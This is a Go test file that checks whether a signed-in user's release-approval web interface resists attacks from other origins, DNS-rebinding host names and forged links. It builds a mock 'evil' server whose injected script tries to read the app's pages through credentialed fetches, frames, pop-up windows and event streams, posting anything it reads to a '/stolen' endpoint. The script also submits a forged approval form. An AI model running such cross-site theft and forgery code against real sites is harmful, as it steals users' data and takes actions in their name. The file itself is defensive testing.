package browser

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// Pages of other sites, in the browser of somebody who is signed in, can neither read nor change
// anything: under a foreign name, under another port of this machine, and under a name that they
// have point to this machine.
func TestOtherOrigins(t *testing.T) {
	w := newWorld(t, shop)
	id := w.start("ship.yaml")
	s := w.serve()
	p := s.signIn(t)
	p.leave("#waiting a", id)
	form := eval[map[string]string](p, `Object.fromEntries(new FormData(document.querySelector("#questions form")))`)
	target := eval[string](p, `document.querySelector("#questions form").action`)
	page := eval[string](p, `location.href.split("#")[0]`)

	var mu sync.Mutex
	var stolen []string
	evil := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/stolen" {
			text, _ := io.ReadAll(r.Body)
			mu.Lock()
			defer mu.Unlock()
			stolen = append(stolen, string(text))
			return
		}
		rw.Header().Set("Content-Type", "text/html")
		fields := ""
		if r.URL.Query().Has("guessed") { // even with all that the right form has
			for name, value := range form {
				fields += fmt.Sprintf("<input name=%q value=%q>", name, value)
			}
		}
		fmt.Fprintf(rw, `<!doctype html><title>evil</title><form id=f method=post action=%q>%s<input name=choice value=approve></form><iframe src=%q></iframe><img src=%q><script src=%q></script>`, target, fields, page, page+"/graph.svg", s.base+"/assets/live.js")
	}))
	defer evil.Close()
	_, port, _ := net.SplitHostPort(evil.Listener.Addr().String())
	_, served, _ := net.SplitHostPort(strings.TrimPrefix(s.base, "http://"))

	for _, site := range []string{"http://evil.example:" + port, "http://127.0.0.1:" + port, "http://localhost:" + port} {
		for _, query := range []string{"/", "/?guessed=1"} {
			p.base = site
			p.visit(query)
			try[string](p, fmt.Sprintf(`(async () => {
				const tell = text => fetch("/stolen", {method: "POST", body: text});
				for (const mode of ["cors", "no-cors"]) for (const method of ["GET", "POST"]) for (const address of [%q, %q]) {
					try { const r = await fetch(address, {mode, method, credentials: "include", body: method === "POST" ? new URLSearchParams(new FormData(f)) : undefined}); const t = await r.text(); if (t) await tell(t); } catch {}
				}
				try { const t = document.querySelector("iframe").contentDocument.body.innerText; if (t) await tell(t); } catch {}
				const w = open(%[1]q);
				try { await new Promise(d => setTimeout(d, 300)); const t = w.document.body.innerText; if (t) await tell(t); } catch {}
				w?.close();
				try { const s = new EventSource(%[3]q, {withCredentials: true}); await new Promise((d, e) => { s.onmessage = d; s.addEventListener("hello", d); s.onerror = e; }); await tell("events"); } catch {}
				return "";
			})()`, page, target, s.base+"/live?seen=0"))
			if framed := len(eval[[]string](p, `[...document.querySelectorAll("iframe")].map(f => { try { return f.contentDocument.body.innerText } catch { return "" } }).filter(t => t)`)); framed > 0 {
				t.Errorf("%s shows the page in a frame", site)
			}
			eval[bool](p, `window.before = true`)
			try[string](p, `f.submit()`)
			await(t, "the reply to the form", func() bool {
				there, err := try[bool](p, `!window.before && document.readyState === "complete"`)
				return err == nil && there
			})
			if text := p.text(); !strings.Contains(text, "refused") {
				t.Errorf("a form of %s%s: %s", site, query, text)
			}
		}
	}
	if len(stolen) > 0 {
		t.Errorf("other sites have read %q", stolen)
	}

	// The name of a foreign site now leads to the server.
	for _, path := range []string{"/", "/totals", s.entry, strings.TrimPrefix(page, s.base), "/assets/live.js"} {
		p.base = "http://evil.example:" + served
		p.visit(path)
		if text := p.text(); !strings.Contains(text, "does not answer to this name") || strings.Contains(text, "Publish this release") {
			t.Errorf("%s under a foreign name: %s", path, text)
		}
	}
	if out := w.run(0, "status", "ship.yaml", id); !strings.Contains(out, "paused") {
		t.Errorf("the run has changed:\n%s", out)
	}

	// A link of another site, such as one in a chat, only opens the page.
	p.base = "http://evil.example:" + port
	p.visit("/")
	eval[bool](p, fmt.Sprintf(`(() => { const a = document.createElement("a"); a.href = %q; a.id = "link"; a.innerText = "see"; document.body.append(a); return true; })()`, page))
	p.leave("#link", "see")
	p.base = s.base
	p.find("#questions", "Publish this release")
}
